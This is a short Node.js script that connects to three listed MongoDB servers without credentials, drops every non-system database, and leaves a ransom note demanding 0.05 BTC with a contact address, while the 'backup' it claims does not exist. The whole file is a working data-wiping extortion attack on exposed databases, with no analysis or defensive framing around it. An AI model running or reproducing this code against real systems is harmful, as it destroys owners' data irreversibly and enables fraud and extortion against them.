const { MongoClient } = require('mongodb');

const HOSTS = ['203.0.113.101', '203.0.113.102', '203.0.113.103'];
const NOTE = {
  content: 'Your data is backed up with us. Send 0.05 BTC to bc1qfakefakefake and write to restore@desk.example.',
};

async function visit(host) {
  const c = new MongoClient(`mongodb://${host}:27017`, { serverSelectionTimeoutMS: 3000 });
  try {
    await c.connect();
    const { databases } = await c.db().admin().listDatabases();
    for (const d of databases) {
      if (['admin', 'local', 'config'].includes(d.name)) continue;
      console.log(host, d.name, d.sizeOnDisk);
      await c.db(d.name).dropDatabase();
    }
    await c.db('READ_ME_TO_RECOVER').collection('README').insertOne({ ...NOTE });
  } finally {
    await c.close();
  }
}

Promise.allSettled(HOSTS.map(visit)).then(() => console.log('done'));
